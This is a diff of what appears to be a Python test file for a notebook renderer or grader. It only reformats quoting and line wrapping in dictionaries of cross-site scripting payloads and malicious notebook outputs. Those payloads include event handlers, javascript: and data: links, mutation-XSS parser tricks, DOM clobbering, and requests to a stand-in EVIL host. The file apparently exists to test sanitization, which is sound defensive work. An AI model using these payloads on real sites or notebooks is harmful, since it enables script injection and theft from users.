@@ -21,37 +21,37 @@ HTML = {
     "script": f"<script>{RUN}</script>",
     "script in capitals, unclosed": f"<SCRIPT>{RUN}//",
     "script from elsewhere": f"<script src={EVIL}/script.js></script>",
-    "event handler of a picture": f"<img src=x onerror=\"{RUN}\">",
-    "event handler of a mouse": f"<b onmouseover=\"{RUN}\" onclick=\"{RUN}\">pass over me</b>",
-    "handler of a fold that opens itself": f"<details open ontoggle=\"{RUN}\"><summary>x</summary></details>",
-    "field that focuses itself": f"<input autofocus onfocus=\"{RUN}\">",
+    "event handler of a picture": f'<img src=x onerror="{RUN}">',
+    "event handler of a mouse": f'<b onmouseover="{RUN}" onclick="{RUN}">pass over me</b>',
+    "handler of a fold that opens itself": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
+    "field that focuses itself": f'<input autofocus onfocus="{RUN}">',
     "animation": f"<style>@keyframes x{{}}</style><p style='animation:x 1s' onanimationstart=\"{RUN}\">x</p>",
-    "javascript link": f"<a href=\"javascript:{RUN}\">click me</a>",
-    "javascript link, disguised": f"<a href=\" jav&#x09;ascript:{RUN}\">click me</a>",
-    "page in a link": f"<a href=\"data:text/html;base64,{PAGE}\">click me</a>",
-    "link to a page handed in": "<a href=\"evil.html\">click me</a>",
-    "frame": f"<iframe src=\"{EVIL}/frame\"></iframe><iframe srcdoc=\"<script>{RUN}</script>\"></iframe>",
-    "frame with a page in it": f"<iframe src=\"data:text/html;base64,{PAGE}\"></iframe>",
-    "object and embed": f"<object data=\"data:text/html;base64,{PAGE}\"></object><embed src=\"{EVIL}/embed.swf\">",
+    "javascript link": f'<a href="javascript:{RUN}">click me</a>',
+    "javascript link, disguised": f'<a href=" jav&#x09;ascript:{RUN}">click me</a>',
+    "page in a link": f'<a href="data:text/html;base64,{PAGE}">click me</a>',
+    "link to a page handed in": '<a href="evil.html">click me</a>',
+    "frame": f'<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe>',
+    "frame with a page in it": f'<iframe src="data:text/html;base64,{PAGE}"></iframe>',
+    "object and embed": f'<object data="data:text/html;base64,{PAGE}"></object><embed src="{EVIL}/embed.swf">',
     "drawing": SVG,
-    "drawing as a picture": f"<img src=\"data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}\">",
-    "picture from elsewhere": f"<img src=\"{EVIL}/pixel.png\"><img srcset=\"{EVIL}/set.png 1x\">",
-    "picture from elsewhere in a source": f"<picture><source srcset=\"{EVIL}/source.png\"><img src=x></picture>",
-    "film": f"<video src=\"{EVIL}/film.mp4\" poster=\"{EVIL}/poster.png\" autoplay onerror=\"{RUN}\"></video>",
+    "drawing as a picture": f'<img src="data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}">',
+    "picture from elsewhere": f'<img src="{EVIL}/pixel.png"><img srcset="{EVIL}/set.png 1x">',
+    "picture from elsewhere in a source": f'<picture><source srcset="{EVIL}/source.png"><img src=x></picture>',
+    "film": f'<video src="{EVIL}/film.mp4" poster="{EVIL}/poster.png" autoplay onerror="{RUN}"></video>',
     "style that fetches": f"<style>body{{background:url({EVIL}/style.png)}}@import '{EVIL}/import.css';</style>",
-    "style of an element that fetches": f"<p style=\"background:url({EVIL}/inline.png)\">x</p>",
-    "style sheet": f"<link rel=stylesheet href=\"{EVIL}/sheet.css\"><link rel=prefetch href=\"{EVIL}/prefetch\">",
-    "base": f"<base href=\"{EVIL}/\">",
-    "refresh": f"<meta http-equiv=refresh content=\"0;url={EVIL}/refresh\">",
-    "refresh to a script": f"<meta http-equiv=refresh content=\"0;url=data:text/html;base64,{PAGE}\">",
-    "form": f"<form action=\"{EVIL}/form\"><button formaction=\"javascript:{RUN}\">Save</button></form>",
+    "style of an element that fetches": f'<p style="background:url({EVIL}/inline.png)">x</p>',
+    "style sheet": f'<link rel=stylesheet href="{EVIL}/sheet.css"><link rel=prefetch href="{EVIL}/prefetch">',
+    "base": f'<base href="{EVIL}/">',
+    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/refresh">',
+    "refresh to a script": f'<meta http-equiv=refresh content="0;url=data:text/html;base64,{PAGE}">',
+    "form": f'<form action="{EVIL}/form"><button formaction="javascript:{RUN}">Save</button></form>',
     "parser confusion, style in mathematics": (
-        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">"
+        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
     ),
-    "parser confusion, noscript": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
-    "parser confusion, comment": f"<!--><img src=x onerror=\"{RUN}\">--><!-- --!><img src=x onerror=\"{RUN}\"> -->",
-    "parser confusion, template": f"<template><s><template><s><img src=x onerror=\"{RUN}\"></s></template>",
-    "parser confusion, table": f"<table><td><svg><p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
+    "parser confusion, noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
+    "parser confusion, comment": f'<!--><img src=x onerror="{RUN}">--><!-- --!><img src=x onerror="{RUN}"> -->',
+    "parser confusion, template": f'<template><s><template><s><img src=x onerror="{RUN}"></s></template>',
+    "parser confusion, table": f'<table><td><svg><p><style><a id="</style><img src=1 onerror={RUN}>">',
     "closing what the page opened": f"</pre></div></main></body></style></title></textarea><script>{RUN}</script>",
     "names that hide those of the page": "<img id=formgrader><form id=base_url><a id=submission_id name=MathJax>x</a>",
 }
@@ -61,11 +61,11 @@ MARKDOWN = {
     "automatic link": f"<javascript:{RUN}>",
     "page in a link in Markdown": f"[click me](data:text/html;base64,{PAGE})",
     "picture from elsewhere in Markdown": f"![seen]({EVIL}/markdown.png)",
-    "address that leaves its quotes": f"![a\" onerror=\"{RUN}](x.png \"b' onerror='{RUN}\")",
+    "address that leaves its quotes": f'![a" onerror="{RUN}](x.png "b\' onerror=\'{RUN}")',
     "formula with a link": f"$\\href{{javascript:{RUN}}}{{x}}$ and $$\\style{{background:url({EVIL}/tex)}}{{y}}$$",
-    "formula with markup": f"$\\text{{<img src=x onerror=\"{RUN}\">}}$ $x\" onmouseover=\"{RUN}$",
-    "formula in an attribute": f"<p title=\"\n\n$a onmouseover={RUN}$\n\n\" lang=\"$b$\">pass over me</p>",
-    "language of a block of code": f"```\"><script>{RUN}</script>\nx\n```",
+    "formula with markup": f'$\\text{{<img src=x onerror="{RUN}">}}$ $x" onmouseover="{RUN}$',
+    "formula in an attribute": f'<p title="\n\n$a onmouseover={RUN}$\n\n" lang="$b$">pass over me</p>',
+    "language of a block of code": f'```"><script>{RUN}</script>\nx\n```',
 }
 
 
@@ -98,14 +98,23 @@ def _outputs() -> list[NotebookNode]:
         {"text/vnd.mermaid": f"graph TD; A-->B<script>{RUN}</script>"},
         {"application/vnd.plotly.v1+json": {"data": [out]}},
     ]
-    sizes = {"image/png": {"width": f"1 onerror={RUN}", "alt": out}, "filenames": {"image/png": f"{EVIL}/name.png"}}
+    sizes = {
+        "image/png": {"width": f"1 onerror={RUN}", "alt": out},
+        "filenames": {"image/png": f"{EVIL}/name.png"},
+    }
     isolated = {"text/html": {"isolated": True}}
     return [
         *(new_code_cell("x", outputs=[new_output("display_data", data=data)]) for data in bundles),
         new_code_cell("x", outputs=[new_output("display_data", data={"image/png": PNG}, metadata=sizes)]),
-        new_code_cell("x", outputs=[new_output("display_data", data={"text/html": HTML["script"]}, metadata=isolated)]),
-        new_code_cell("x", outputs=[new_output("stream", name="stdout", text=f"<script>{RUN}</script>\x1b[31{out}m")]),
-        new_code_cell("x", outputs=[new_output("error", ename=out, evalue=out, traceback=[out, f"\x1b[0;31m{out}"])]),
+        new_code_cell(
+            "x", outputs=[new_output("display_data", data={"text/html": HTML["script"]}, metadata=isolated)]
+        ),
+        new_code_cell(
+            "x", outputs=[new_output("stream", name="stdout", text=f"<script>{RUN}</script>\x1b[31{out}m")]
+        ),
+        new_code_cell(
+            "x", outputs=[new_output("error", ename=out, evalue=out, traceback=[out, f"\x1b[0;31m{out}"])]
+        ),
     ]
 
 
